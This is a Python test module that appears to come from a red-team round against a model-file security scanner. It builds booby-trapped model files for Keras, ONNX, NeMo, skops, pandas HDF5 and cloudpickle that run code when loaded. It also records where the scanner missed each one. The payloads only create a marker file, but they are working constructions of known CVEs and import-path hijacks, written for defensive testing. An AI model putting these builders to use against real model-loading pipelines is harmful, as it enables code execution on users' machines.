"""Red team round 6 (blind): techniques whose payload only creates a marker file, each with the loader
that runs it (tests/test_scan_redteam6.py).

A technique builds its target under a fresh folder and returns the path to hand both to the control
(``argv[1]`` of the loader, run in a child process with the target's folder as its working directory)
and to ``paramscope scan``: a file, or a model folder for the techniques aimed at ``scan FOLDER``.

Rounds 1-5 covered the opcode machine, archives, compression, joblib, the folder search, modules beside a
file under the names a loading process imports (round 5: any code file, sub-folder with code or
distribution metadata beside the file), and the repository code transformers, diffusers,
sentence-transformers and torch.hub import. Round 6 looked at what those rules do not see, and at formats
other than pickle whose loaders run code. Sources (each technique names its own):

- CPython's import system (``importlib._bootstrap_external.FileFinder``, ``_path_isdir``): a package is
  found through ``os.stat``, which follows symlinks, so a *symlink to a folder* named ``struct`` beside
  a pickle is the package ``struct`` that ``import pickle`` imports; a git checkout keeps such a link
  (``struct -> ../lib/pkg``). The same inside a namespace portion: ``google/protobuf -> …`` beside an
  ONNX file is what ``import onnx`` imports as ``google.protobuf``;
- Keras 3.0-3.8, CVE-2025-1550 (GHSA-48g7-3x6r-xfhp; huntr write-up "Inside CVE-2025-1550: Remote Code
  Execution via Keras Models"): ``keras.saving.load_model(f)`` with the default ``safe_mode=True``
  imports the ``module`` a ``config.json`` layer names (``serialization_lib._retrieve_class_or_fn``:
  ``importlib.import_module``) and a functional model calls each "layer" on its ``inbound_nodes`` args
  (``functional.py`` ``process_node``): a layer ``{"module": "posix", "class_name": "function",
  "config": "system"}`` is ``posix.system(args)``;
- Keras 3 before 3.11.3, CVE-2025-9905: ``load_model("m.h5")`` (legacy HDF5) ignores ``safe_mode``, so a
  ``Lambda`` layer's marshalled bytecode (``python_utils.func_load``) runs when the model is rebuilt;
- pandas ``HDFStore`` (PyTables ``ObjectAtom``): an object column of ``to_hdf(format="fixed")`` is
  pickled into the HDF5 file and ``read_hdf`` unpickles it;
- NeMo ``SaveRestoreConnector``: a ``.nemo`` file is a tar (plain or gzip) that is extracted and whose
  ``model_weights.ckpt`` is ``torch.load``-ed (a pickle);
- skops 0.16 ``io/_general.py``: ``ConstructorFromReduceNode`` calls ``gettype(module, class)(*args)``;
  ``load(p, trusted=get_untrusted_types(file=p))`` is the load skops' documentation shows;
- cloudpickle 3 (MLflow's ``python_model.pkl``): a function pickled by value, called by a REDUCE;
- ordinary non-pickle binaries a user may hand to ``scan`` by name: PNG (``\\x89PNG``), HDF5
  (``\\x89HDF``); their first byte is the opcode NEWFALSE.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import subprocess
import sys
import tarfile
import zipfile
import zlib
from collections import OrderedDict
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from builders.pickle_opcodes import system_p0
from builders.scan_round4 import registrar

LOAD = "import pickle, sys; pickle.load(open(sys.argv[1], 'rb'))"
ONNX_LOAD = "import onnx, sys; onnx.load(sys.argv[1])"
KERAS_LOAD = ("import os, sys; os.environ.setdefault('KERAS_BACKEND', 'torch'); import keras; "
              "keras.saving.load_model(sys.argv[1])")
# NeMo's SaveRestoreConnector.restore_from: extract the tar, torch.load its model_weights.ckpt (a file
# that is no zip goes to torch's legacy loader, whose first step is pickle.load: pickle.load stands in)
NEMO_LOAD = ("import pickle, sys, tarfile, tempfile; d = tempfile.mkdtemp(); "
             "tarfile.open(sys.argv[1], 'r:*').extractall(d, filter='data'); "
             "pickle.load(open(d + '/model_weights.ckpt', 'rb'))")
# the interpreter that has keras 3.8 and h5py (a venv of its own; default: this one)
CONTROL_PYTHON = os.environ.get("PARAMSCOPE_REDTEAM_PYTHON", sys.executable)


class BuildUnavailable(Exception):
    """The builder needs a library only the control's interpreter has, and it is missing."""


@dataclass(frozen=True)
class Technique:
    id: str
    source: str
    build: Callable[[Path, Path], Path]  # (folder, marker) -> the path to load and scan
    loader: str
    needs: tuple[str, ...] = ()  # modules the control's interpreter must import (else it is skipped)
    slow: bool = False  # the control (or the builder) imports keras
    folder: bool = False  # aimed at ``scan FOLDER``
    file: str = ""  # for a folder technique: the file in it the loader reads (argv[1] of the control)
    names_payload: bool = False  # the scan can name the payload's global (posix.system)
    # what the scan answered blind (main at fac5d6a) where it passed the technique (exit 0 or 1), and why;
    # None where it already exits 2
    blind: str | None = None


T6: list[Technique] = []


technique = registrar(T6, Technique)


def _touch(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()\n"


def _run_with_control_python(script: str, *args: str) -> None:
    """Run a build step that needs keras or h5py in the control's interpreter (never the test's)."""
    env = {**os.environ, "KERAS_BACKEND": "torch"}
    done = subprocess.run([CONTROL_PYTHON, "-c", script, *args], capture_output=True, timeout=300,
                          stdin=subprocess.DEVNULL, env=env)
    if done.returncode != 0:
        raise BuildUnavailable(done.stderr.decode(errors="replace")[-400:])


# --- a symlinked folder answers import ---------------------------------------------------------------

STRUCT_PACKAGE = "from _struct import *\nfrom _struct import __doc__\n"


@technique("symlinked-struct-package-beside-a-safe-pickle",
           "CPython FileFinder: a package is a folder found through os.stat, which follows a symlink; "
           "`import pickle` imports struct after start-up (round 5's struct.py, as a link a git checkout "
           "keeps: model/struct -> ../lib/structpkg)", LOAD,
           blind="'safe' (collections.OrderedDict): formats/code_files.py importable() counts a sub-folder "
           "only when entry_is_dir(e, follow=False), so a symlink to a package is not code; the folder "
           "scan alone says 'a symlinked folder (not followed)'")
def symlinked_struct(root: Path, marker: Path) -> Path:
    (root / "lib" / "structpkg").mkdir(parents=True)
    (root / "lib" / "structpkg" / "__init__.py").write_text(_touch(marker) + STRUCT_PACKAGE)
    model = root / "model"
    model.mkdir()
    os.symlink("../lib/structpkg", model / "struct", target_is_directory=True)
    (model / "weights.pkl").write_bytes(pickle.dumps(OrderedDict(w=[1.0, 2.0]), protocol=2))
    return model / "weights.pkl"


@technique("symlinked-struct-package-in-a-model-folder",
           "the folder of the technique above, given to `scan FOLDER`", LOAD, folder=True,
           file="weights.pkl")
def symlinked_struct_folder(root: Path, marker: Path) -> Path:
    return symlinked_struct(root, marker).parent


@technique("symlinked-namespace-portion-beside-an-onnx",
           "CPython namespace packages: google/ beside the file (no __init__) merges with the installed "
           "google namespace and is searched first; its protobuf entry is a symlink to a package "
           "(model/google/protobuf -> ../../vendor/pb); `import onnx` imports google.protobuf", ONNX_LOAD,
           needs=("onnx",),
           blind="'safe: a onnx file': code_files.py _holds_code() skips symlinks, so google/ holds no code")
def symlinked_protobuf(root: Path, marker: Path) -> Path:
    from onnx import TensorProto, helper, save  # the project's onnx extra writes the model

    (root / "vendor" / "pb").mkdir(parents=True)
    (root / "vendor" / "pb" / "__init__.py").write_text(_touch(marker))
    model = root / "model"
    (model / "google").mkdir(parents=True)
    os.symlink("../../vendor/pb", model / "google" / "protobuf", target_is_directory=True)
    graph = helper.make_graph([helper.make_node("Relu", ["x"], ["y"])], "g",
                              [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])],
                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])])
    save(helper.make_model(graph), str(model / "model.onnx"))
    return model / "model.onnx"


# --- Keras -------------------------------------------------------------------------------------------

def keras_cve_2025_1550(marker: Path) -> bytes:
    """A ``.keras`` archive whose functional model has one "layer", ``posix.system``, called on a string."""
    layer = {"module": "posix", "class_name": "function", "config": "system", "registered_name": "function",
             "name": "system", "inbound_nodes": [{"args": [f"touch {marker}"], "kwargs": {}}]}
    config = {"module": "keras.src.models.functional", "class_name": "Functional",
              "registered_name": "Functional",
              "config": {"name": "model", "trainable": True, "layers": [layer], "input_layers": [],
                         "output_layers": []}}
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("metadata.json", json.dumps({"keras_version": "3.8.0",
                                                "date_saved": "2025-01-01@00:00:00"}))
        z.writestr("config.json", json.dumps(config))
        z.writestr("model.weights.h5", b"")
    return buf.getvalue()


KERAS_1550 = ("Keras 3.0-3.8 CVE-2025-1550 (GHSA-48g7-3x6r-xfhp): load_model(f), safe_mode=True, imports "
              "the module a config.json layer names and calls it on its inbound_nodes args")


@technique("keras-cve-2025-1550-by-name", KERAS_1550, KERAS_LOAD, needs=("keras",), slow=True,
           blind="exit 1 'a zip archive with no pickle inside': app/scan.py scan_file judges pickles only; "
           "a .keras config.json naming posix.system is not read")
def keras_1550_file(root: Path, marker: Path) -> Path:
    (root / "model.keras").write_bytes(keras_cve_2025_1550(marker))
    return root / "model.keras"


@technique("keras-cve-2025-1550-in-a-folder", KERAS_1550, KERAS_LOAD, needs=("keras",), slow=True,
           folder=True, file="model.keras",
           blind="exit 0 'skipped: a zip archive with no pickle inside (found by its first bytes, not its "
           "name)': the folder search's skipped rule (app/scan.py scan_file, found_by_head)")
def keras_1550_folder(root: Path, marker: Path) -> Path:
    model = root / "model"
    model.mkdir()
    keras_1550_file(model, marker)
    return model


H5_LAMBDA = """
import os, sys
import keras
marker, out = sys.argv[1], sys.argv[2]
fn = eval("lambda x: (open(%r, 'w').close(), x)[1]" % marker)
model = keras.Sequential([keras.Input((4,)), keras.layers.Lambda(fn), keras.layers.Dense(2)])
model.save(out)  # legacy HDF5: the Lambda's bytecode, marshalled, in the model_config attribute
os.remove(marker)  # building called the lambda once
"""

KERAS_9905 = ("Keras 3 before 3.11.3, CVE-2025-9905: load_model('m.h5') ignores safe_mode; the Lambda's "
              "marshalled bytecode (python_utils.func_load) runs when the model is rebuilt")


def _h5_lambda(folder: Path, marker: Path) -> Path:
    out = folder / "model.h5"
    _run_with_control_python(H5_LAMBDA, str(marker), str(out))
    return out


@technique("keras-h5-lambda-by-name", KERAS_9905, KERAS_LOAD, needs=("keras",), slow=True)
def h5_lambda_file(root: Path, marker: Path) -> Path:
    return _h5_lambda(root, marker)


@technique("keras-h5-lambda-in-a-folder", KERAS_9905, KERAS_LOAD, needs=("keras",), slow=True, folder=True,
           file="model.h5", blind="exit 0 'no pickle files found': formats/discover.py pickle_files "
           "takes an HDF5 file neither by name nor by its first bytes")
def h5_lambda_folder(root: Path, marker: Path) -> Path:
    model = root / "model"
    model.mkdir()
    _h5_lambda(model, marker)
    return model


# --- pandas HDF5 ---------------------------------------------------------------------------------------

HDF_LOAD = "import pandas, sys; pandas.read_hdf(sys.argv[1])"
HDF_OBJECT = """
import sys, pandas
marker, out = sys.argv[1], sys.argv[2]
class Touch:
    def __reduce__(self):
        import os
        return os.system, ("touch " + marker,)
frame = pandas.DataFrame({"a": [1, 2], "b": [Touch(), "x"]})
frame.to_hdf(out, key="df", format="fixed")  # an object block: PyTables pickles it (ObjectAtom)
"""
HDF = ("pandas HDFStore (PyTables): an object column of a format='fixed' frame is stored as a VLArray of "
       "ObjectAtom, i.e. pickled; pandas.read_hdf unpickles it (pickle.loads) on reading")


def _hdf_object(folder: Path, marker: Path) -> Path:
    out = folder / "data.h5"
    _run_with_control_python(HDF_OBJECT, str(marker), str(out))
    return out


@technique("pandas-hdf5-object-column-by-name", HDF, HDF_LOAD, needs=("pandas", "tables"), slow=True)
def hdf_object_file(root: Path, marker: Path) -> Path:
    return _hdf_object(root, marker)


@technique("pandas-hdf5-object-column-in-a-folder", HDF, HDF_LOAD, needs=("pandas", "tables"), slow=True,
           folder=True, file="data.h5", blind="exit 0 'no pickle files found': formats/discover.py "
           "pickle_files takes an HDF5 file neither by name nor by its first bytes; its pickles are never "
           "read")
def hdf_object_folder(root: Path, marker: Path) -> Path:
    model = root / "model"
    model.mkdir()
    _hdf_object(model, marker)
    return model


# --- NeMo --------------------------------------------------------------------------------------------

def _nemo(marker: Path, mode: str) -> bytes:
    ckpt = b"\x80\x02" + system_p0(marker)
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode=mode) as t:
        for name, data in (("./model_config.yaml", b"target: nemo.collections.asr.models.X\n"),
                           ("./model_weights.ckpt", ckpt)):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


NEMO = ("NeMo SaveRestoreConnector.restore_from: a .nemo is a tar (or tar.gz) extracted to a temporary "
        "folder, its model_weights.ckpt torch.load-ed")


@technique("nemo-tar", NEMO, NEMO_LOAD)
def nemo_tar(root: Path, marker: Path) -> Path:
    (root / "model.nemo").write_bytes(_nemo(marker, "w"))
    return root / "model.nemo"


@technique("nemo-tar-gz-in-a-folder", NEMO, NEMO_LOAD, folder=True, file="model.nemo")
def nemo_tgz(root: Path, marker: Path) -> Path:
    model = root / "model"
    model.mkdir()
    (model / "model.nemo").write_bytes(_nemo(marker, "w:gz"))
    return model


# --- skops -------------------------------------------------------------------------------------------

SKOPS_LOAD = ("import sys, skops.io as sio; p = sys.argv[1]; "
              "sio.load(p, trusted=sio.get_untrusted_types(file=p))")
SKOPS = ("skops 0.16 io/_general.py ConstructorFromReduceNode: gettype(module, class)(*content) (written "
         "for ZoneInfo); skops' documented way to load, load(p, trusted=get_untrusted_types(file=p)), "
         "trusts what the file lists (posix.system)")


def skops_file(marker: Path) -> bytes:
    """A ``.skops`` archive whose ``schema.json`` is ``posix.system("touch MARKER")``."""
    arg = {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode",
           "content": json.dumps(f"touch {marker}"), "is_json": True, "__id__": 2}
    schema = {"__class__": "system", "__module__": "posix", "__loader__": "ConstructorFromReduceNode",
              "content": {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode",
                          "content": [arg], "__id__": 3},
              "__id__": 1, "protocol": 2, "_skops_version": "0.16.0"}
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("schema.json", json.dumps(schema))
    return buf.getvalue()


@technique("skops-posix.system-by-name", SKOPS, SKOPS_LOAD, needs=("skops",), slow=True,
           blind="exit 1 'a zip archive with no pickle inside': skops' schema.json, which names the "
           "callables loading calls, is not read")
def skops_by_name(root: Path, marker: Path) -> Path:
    (root / "model.skops").write_bytes(skops_file(marker))
    return root / "model.skops"


@technique("skops-posix.system-in-a-folder", SKOPS, SKOPS_LOAD, needs=("skops",), slow=True, folder=True,
           file="model.skops", blind="exit 0 'skipped: a zip archive with no pickle inside (found by its "
           "first bytes, not its name)'")
def skops_folder(root: Path, marker: Path) -> Path:
    model = root / "model"
    model.mkdir()
    skops_by_name(model, marker)
    return model


# --- cloudpickle -------------------------------------------------------------------------------------

@technique("cloudpickle-function-called-on-load",
           "cloudpickle 3 (MLflow's python_model.pkl, Ray, Dask): a lambda pickled by value and called by a "
           "REDUCE; its globals are cloudpickle.cloudpickle._make_function and friends", LOAD,
           names_payload=False)
def cloudpickle_call(root: Path, marker: Path) -> Path:
    try:
        import cloudpickle
    except ImportError as e:
        raise BuildUnavailable(str(e)) from e
    touch = eval(f"lambda: open({str(marker)!r}, 'w').close()")  # a function object; not called here

    class Call:
        def __reduce__(self) -> tuple:
            return touch, ()

    (root / "python_model.pkl").write_bytes(cloudpickle.dumps(Call()))
    return root / "python_model.pkl"


# --- benign binaries given by name ---------------------------------------------------------------------

def png() -> bytes:
    """A 1x1 grey PNG: ``\\x89PNG\\r\\n`` reads as NEWFALSE, BINPERSID, NONE, BINFLOAT, then 0x1a."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")
    ihdr = (1).to_bytes(4, "big") * 2 + bytes([8, 0, 0, 0, 0])
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\x00\x00")) + \
        chunk(b"IEND", b"")


H5_DATA = """
import sys, h5py, numpy
with h5py.File(sys.argv[1], "w") as f:
    f["x"] = numpy.arange(10.0)
"""


def h5_data(path: Path) -> Path:
    """A plain HDF5 file of one array (h5py), no Keras config in it."""
    _run_with_control_python(H5_DATA, str(path))
    return path
